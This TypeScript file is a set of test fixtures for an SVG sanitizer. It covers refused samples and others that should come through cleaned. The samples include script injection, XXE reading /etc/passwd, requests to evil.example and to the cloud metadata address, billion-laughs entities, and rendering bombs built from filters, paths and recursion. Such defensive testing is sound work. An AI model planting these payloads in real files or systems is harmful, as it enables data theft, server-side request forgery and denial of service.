import { svgFile, utf8 } from "./bytes";
import type { HostileFile } from "./hostile-pictures";

const CIRCLE = '<circle cx="50" cy="50" r="40" fill="#c33"/>';
const doubled = (link: (name: string) => string) =>
  `<g id="a">${CIRCLE}</g>${[..."bcdefghijklmnopqrstuvwxyz"]
    .map((name, at) => `<g id="${name}">${link("abcdefghijklmnopqrstuvwxyz"[at] ?? "").repeat(10)}</g>`)
    .join("")}<use href="#z"/>`;
const layers = (count: number, attribute: string, before = "") =>
  svgFile(`${before}${`<g ${attribute}><rect width="100" height="100" fill="#123"/></g>`.repeat(count)}`);
const filter = (effects: string, attributes = "") =>
  svgFile(`<filter id="f" ${attributes}>${effects}</filter><g filter="url(#f)">${CIRCLE}</g>`);

/** SVGs that would run code, fetch, leak or never finish. */
export function hostileSvgs(): HostileFile[] {
  const refused: [string, Uint8Array<ArrayBuffer>][] = [
    ["runs a script", svgFile(`<script>alert(1)</script>${CIRCLE}`)],
    ["runs a script from elsewhere", svgFile(`<script href="https://evil.example/x.js"/>${CIRCLE}`)],
    [
      "runs a script under another prefix",
      utf8(`<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>1</s:script></s:svg>`),
    ],
    ["runs a script in CDATA", svgFile(`<script><![CDATA[alert(1)]]></script>${CIRCLE}`)],
    [
      "holds a web page",
      svgFile(
        `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>`,
      ),
    ],
    [
      "holds a web page in a frame",
      svgFile(
        `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>`,
      ),
    ],
    [
      "expands entities a billion times",
      utf8(
        `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg">&c;</svg>`,
      ),
    ],
    [
      "reads a file by an entity",
      utf8(
        `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
      ),
    ],
    [
      "fetches by an entity",
      utf8(
        `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><svg xmlns="http://www.w3.org/2000/svg"/>`,
      ),
    ],
    [
      "hides its entities behind a comment",
      utf8(`<!--x--><!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`),
    ],
    ["uses an entity that it does not declare", svgFile(`<g id="&nbsp;">${CIRCLE}</g>`)],
    ["declares its type in the middle", svgFile(`<!DOCTYPE svg>${CIRCLE}`)],
    ["fetches a picture", svgFile('<image href="https://evil.example/pixel.png" width="9" height="9"/>')],
    [
      "fetches a picture by XLink",
      svgFile('<image xlink:href="http://169.254.169.254/latest/meta-data" width="9" height="9"/>'),
    ],
    [
      "fetches a picture without a scheme",
      svgFile('<image href="//evil.example/x.png" width="9" height="9"/>'),
    ],
    ["reads a file as a picture", svgFile('<image href="file:///etc/passwd" width="9" height="9"/>')],
    ["uses another drawing", svgFile('<use href="https://evil.example/x.svg#a"/>')],
    [
      "paints with another drawing",
      svgFile('<rect width="9" height="9" fill="url(https://evil.example/x.svg#g)"/>'),
    ],
    [
      "paints with another drawing in quotes",
      svgFile(`<rect width="9" height="9" fill="url('https://evil.example/x.svg#g')"/>`),
    ],
    [
      "is masked by another drawing",
      svgFile('<rect width="9" height="9" style="mask:url(//evil.example/m.svg#m)"/>'),
    ],
    ["imports a style sheet", svgFile(`<style>@import url("https://evil.example/x.css");</style>${CIRCLE}`)],
    [
      "is styled by a sheet from elsewhere",
      utf8(
        `<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"/>`,
      ),
    ],
    [
      "fetches by its style",
      svgFile(
        `<style>.a{fill:url(https://evil.example/x.svg#g)}</style><rect class="a" width="9" height="9"/>`,
      ),
    ],
    [
      "hides an address behind escapes",
      svgFile('<rect width="9" height="9" style="fill:\\75rl(https://evil.example)"/>'),
    ],
    ["computes in its style", svgFile('<rect width="9" height="9" style="fill:expression(alert(1))"/>')],
    ["paints with a script", svgFile('<rect width="9" height="9" fill="javascript:alert(1)"/>')],
    [
      "draws a picture of a drawing",
      svgFile(
        `<image width="9" height="9" href="data:image/svg+xml;base64,${btoa("<svg onload='alert(1)'/>")}"/>`,
      ),
    ],
    [
      "draws a picture of a web page",
      svgFile('<image width="9" height="9" href="data:text/html,<script>"/>'),
    ],
    [
      "draws a picture that is none",
      svgFile(`<image width="9" height="9" href="data:image/png;base64,${btoa("nothing of the kind")}"/>`),
    ],
    [
      "draws a picture that is no base64",
      svgFile('<image width="9" height="9" href="data:image/png;base64,%%%%"/>'),
    ],
    ["doubles itself 25 times", svgFile(doubled((name) => `<use href="#${name}"/>`))],
    ["doubles itself by XLink", svgFile(doubled((name) => `<use xlink:href="#${name}"/>`))],
    ["uses itself", svgFile(`<g id="a">${CIRCLE}<use href="#a"/></g>`)],
    [
      "uses itself by way of another",
      svgFile('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    ],
    [
      "is masked by itself",
      svgFile(
        `<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask><g mask="url(#m)">${CIRCLE}</g>`,
      ),
    ],
    [
      "is clipped by itself",
      svgFile(
        `<clipPath id="c"><rect width="9" height="9" clip-path="url(#c)"/></clipPath><g clip-path="url(#c)">${CIRCLE}</g>`,
      ),
    ],
    [
      "paints with a pattern of itself",
      svgFile(
        '<pattern id="p" width="9" height="9"><rect width="9" height="9" fill="url(#p)"/></pattern><rect width="99" height="99" fill="url(#p)"/>',
      ),
    ],
    [
      "inherits a gradient from itself",
      svgFile('<linearGradient id="g" href="#g"/><rect width="99" height="99" fill="url(#g)"/>'),
    ],
    [
      "inherits gradients in a ring",
      svgFile(
        '<linearGradient id="g" href="#h"/><linearGradient id="h" href="#g"/><rect width="99" height="99" fill="url(#g)"/>',
      ),
    ],
    ["has 30,000 elements", svgFile(CIRCLE.repeat(30_000))],
    ["is nested 5,000 deep", svgFile("<g>".repeat(5_000) + CIRCLE + "</g>".repeat(5_000))],
    [
      "is nested 60 deep and used so 60 times",
      svgFile(
        `${"<g>".repeat(55)}<g id="a">${CIRCLE}</g>${"</g>".repeat(55)}${Array.from({ length: 60 }, (_, at) => `<g id="u${at}"><use href="#${at ? `u${at - 1}` : "a"}"/></g>`).join("")}`,
      ),
    ],
    [
      "marks each of a million corners",
      svgFile(
        `<marker id="m"><g>${CIRCLE.repeat(50)}</g></marker><path marker-mid="url(#m)" d="M0 0${"l1 1".repeat(20_000)}"/>`,
      ),
    ],
    ["makes turbulence", filter('<feTurbulence baseFrequency="0.9" numOctaves="10"/>')],
    [
      "makes turbulence under another prefix",
      utf8(
        `<x:svg xmlns:x="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><x:filter id="f"><x:feTurbulence/></x:filter></x:svg>`,
      ),
    ],
    ["convolves by 99 × 99", filter(`<feConvolveMatrix order="99" kernelMatrix="${"1 ".repeat(9801)}"/>`)],
    ["dilates by a thousand", filter('<feMorphology operator="dilate" radius="1000"/>')],
    [
      "lights its surface",
      filter('<feDiffuseLighting><fePointLight x="1" y="1" z="1"/></feDiffuseLighting>'),
    ],
    ["displaces itself", filter('<feDisplacementMap in2="SourceGraphic" scale="900"/>')],
    ["tiles itself", filter("<feTile/>")],
    ["fetches into an effect", filter('<feImage href="https://evil.example/x.png"/>')],
    [
      "blurs a region of 400 canvases",
      filter('<feGaussianBlur stdDeviation="900"/>', 'x="-10" y="-10" width="20" height="20"'),
    ],
    [
      "blurs a region of a thousand canvases",
      filter(
        '<feGaussianBlur stdDeviation="5"/>',
        'filterUnits="userSpaceOnUse" x="-9999" y="-9999" width="19999" height="19999"',
      ),
    ],
    [
      "blurs two hundred times",
      svgFile(
        `<filter id="f"><feGaussianBlur stdDeviation="9"/></filter>${`<g filter="url(#f)">${CIRCLE}</g>`.repeat(200)}`,
      ),
    ],
    ["chains a hundred effects", filter('<feGaussianBlur stdDeviation="3"/>'.repeat(100))],
    ["lays a thousand half-transparent canvases", layers(1000, 'opacity=".9"')],
    ["blends a thousand canvases", layers(1000, 'style="mix-blend-mode:multiply"')],
    [
      "masks a hundred canvases",
      layers(100, 'mask="url(#m)"', '<mask id="m"><rect width="100" height="100" fill="#fff"/></mask>'),
    ],
    [
      "clips a hundred canvases",
      layers(100, 'clip-path="url(#c)"', '<clipPath id="c"><circle cx="50" cy="50" r="60"/></clipPath>'),
    ],
    [
      "paints its canvas fifteen thousand times",
      svgFile('<rect width="100" height="100" fill="#123"/>'.repeat(15_000)),
    ],
    [
      "paints with a thousand gradients",
      svgFile(
        `<linearGradient id="g"><stop stop-color="red"/></linearGradient>${'<rect width="100" height="100" fill="url(#g)"/>'.repeat(1000)}`,
      ),
    ],
    [
      "zigzags over its whole height",
      svgFile(
        `<path fill="#c33" d="M0 0${Array.from({ length: 60_000 }, (_, at) => `L${at % 100} ${at % 2 ? 0 : 100}`).join("")}z"/>`,
      ),
    ],
    ["is a path of five megabytes", svgFile(`<path fill="#c33" d="M0 0${"l1 1".repeat(1_200_000)}z"/>`)],
    [
      "is dashed a billion times",
      svgFile('<path stroke="#000" stroke-dasharray="0.0000001" d="M0 0L100 100"/>'),
    ],
    [
      "is dashed a billion times far away",
      svgFile('<path stroke="#000" stroke-dasharray="1" d="M0 0L999999999 999999999"/>'),
    ],
    ["lies at infinity", svgFile('<rect x="1e308" width="1e308" height="9"/>')],
    [
      "has two thousand styles and as many classes",
      svgFile(
        `<style>${Array.from({ length: 2500 }, (_, at) => `.a${at} .b .c{fill:red}`).join("")}</style>${CIRCLE.repeat(2000)}`,
      ),
    ],
    ["has letters", svgFile("<text>Buy my font</text>")],
    ["moves by its style", svgFile('<rect width="9" height="9" style="transform:rotate(45deg)"/>')],
    ["has no size", svgFile(CIRCLE, "")],
    ["has a size of nothing", svgFile(CIRCLE, 'viewBox="0 0 0 0"')],
    ["has a size beyond numbers", svgFile(CIRCLE, 'viewBox="0 0 1e300 1e300"')],
    ["is a thread", svgFile(CIRCLE, 'viewBox="0 0 10000 1"')],
    ["shows nothing", svgFile("")],
    ["shows nothing but what it defines", svgFile(`<defs>${CIRCLE}</defs>`)],
    ["is not closed", utf8('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><g>')],
    ["is closed twice", utf8('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"></svg></svg>')],
    ["crosses its tags", svgFile("<g><a></g></a>")],
    ["repeats an attribute", svgFile('<rect width="1" width="2"/>')],
    ["has an attribute without quotes", svgFile("<rect width=1/>")],
    ["is no UTF-8", Uint8Array.from([...utf8("<svg>"), 0xff, 0xc0, 0x80])],
    [
      "is a web page that calls itself a drawing",
      utf8('<svg:html xmlns:svg="http://www.w3.org/1999/xhtml"><script>1</script></svg:html>'),
    ],
    [
      "has a hundred thousand attributes",
      svgFile(`<g ${Array.from({ length: 100_000 }, (_, at) => `a${at}="1"`).join(" ")}/>`),
    ],
    ["is one endless tag", utf8(`<svg ${"x".repeat(1_000_000)}`)],
    ["is one endless comment", utf8(`<svg xmlns="http://www.w3.org/2000/svg"><!--${"-".repeat(2_000_000)}`)],
    ["opens a million brackets", utf8(`<svg xmlns="http://www.w3.org/2000/svg">${"<".repeat(1_000_000)}`)],
  ];
  const harmless: [string, Uint8Array<ArrayBuffer>, string[]][] = [
    ["listens to a click", svgFile(`<g onclick="alert(1)">${CIRCLE}</g>`), ["onclick", "alert"]],
    [
      "listens to its loading",
      svgFile(CIRCLE, 'viewBox="0 0 100 100" onload="alert(1)"'),
      ["onload", "alert"],
    ],
    ["links to a script", svgFile(`<a href="javascript:alert(1)">${CIRCLE}</a>`), ["javascript", "<a"]],
    ["links to a thief", svgFile(`<a xlink:href="https://evil.example">${CIRCLE}</a>`), ["evil"]],
    [
      "animates a link",
      svgFile(`${CIRCLE}<animate attributeName="href" values="javascript:alert(1)"/>`),
      ["animate", "javascript"],
    ],
    ["sets a handler", svgFile(`${CIRCLE}<set attributeName="onmouseover" to="alert(1)"/>`), ["alert"]],
    [
      "holds a web page beside its drawing",
      svgFile(
        `<switch><foreignObject requiredExtensions="x"><p xmlns="http://www.w3.org/1999/xhtml">evil</p></foreignObject><g>${CIRCLE}</g></switch>`,
      ),
      ["evil", "foreign"],
    ],
    [
      "loads a font",
      svgFile(`<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>${CIRCLE}`),
      ["evil"],
    ],
    [
      "has elements of a web page",
      svgFile(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">evil()</h:script>${CIRCLE}`),
      ["evil"],
    ],
    ["tells where it was made", svgFile(`<metadata>C:\\Users\\Ann\\secret.svg</metadata>${CIRCLE}`), ["Ann"]],
    [
      "has comments and instructions",
      svgFile(`<!-- secret --><?php system("x") ?>${CIRCLE}`),
      ["secret", "php"],
    ],
    [
      "names things like a page's own",
      svgFile(`<g id="__proto__"><g id="constructor">${CIRCLE}</g></g>`),
      ["__proto__", "constructor"],
    ],
    ["breaks out of its attributes", svgFile(`<g id="&quot;&gt;&lt;script&gt;">${CIRCLE}</g>`), ["script"]],
    ["masks with something that is not there", svgFile(`<g mask="url(#nothing)">${CIRCLE}</g>`), ["nothing"]],
  ];
  return [
    ...refused.map(([name, bytes]) => ({ name, bytes })),
    ...harmless.map(([name, bytes, without]) => ({ name, bytes, accepted: { without } })),
  ];
}
